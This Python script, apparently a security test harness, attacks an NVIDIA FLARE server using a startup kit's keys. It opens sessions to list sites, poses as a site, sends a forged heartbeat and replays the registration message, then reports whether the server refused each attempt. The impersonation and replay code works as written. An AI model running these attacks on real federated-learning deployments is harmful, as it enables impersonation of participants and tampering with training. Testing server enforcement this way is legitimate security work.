"""Attacks with a kit's keys: ``attacker.py WHAT KIT NAME``.

It sends what FLARE's client would not:

- ``login``: open a person's session under NAME, and list the sites;
- ``as_site``: open it, and register the connection as that of a site;
- ``heartbeat``: open it, and report that a site of that name is alive;
- ``replay``: open it, and repeat the message that joined it to the server.

The last printed line is the outcome; FLARE's threads are not waited for.
"""

from __future__ import annotations

import os
import sys
from typing import Any

from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.fqcn import FQCN
from nvflare.fuel.flare_api.flare_api import new_secure_session
from nvflare.fuel.hci.client import api
from nvflare.private.defs import CellChannel, CellChannelTopic, CellMessageHeaderKeys, ClientType, new_cell_message


def _attack(what: str, kit: str, name: str) -> str:
    joined: list[dict[str, Any]] = []
    answers: list[Any] = []
    send = CoreCell.send_request

    def noted(self: CoreCell, **request: Any) -> Any:
        reply = send(self, **request)
        if request.get("topic") == CellChannelTopic.Register:
            joined.append(request)
            answers.append(reply.payload)
            if what == "replay":
                answers.append(send(self, **request).payload)
        return reply

    CoreCell.send_request = noted
    if what == "as_site":
        api.ClientType.ADMIN = ClientType.REGULAR
    try:
        session = new_secure_session(name, kit, timeout=8.0)
    except Exception as error:
        return f"refused: {type(error).__name__} {error}"
    if what == "heartbeat":
        shareable = Shareable()
        shareable.set_peer_context(FLContext())
        session.api.cell.send_request(
            target=FQCN.ROOT_SERVER,
            channel=CellChannel.SERVER_MAIN,
            topic=CellChannelTopic.HEART_BEAT,
            request=new_cell_message({CellMessageHeaderKeys.PROJECT_NAME: session.api.project_name}, shareable),
            timeout=8.0,
        )
    if what == "replay":
        return f"first {bool(answers[0])}, again {bool(answers[1])}"
    return f"let in, sites: {sorted(client.name for client in session.get_connected_client_list())}"


if __name__ == "__main__":
    outcome = _attack(*sys.argv[1:])
    sys.stdout.write(outcome + "\n")
    sys.stdout.flush()
    os._exit(0)
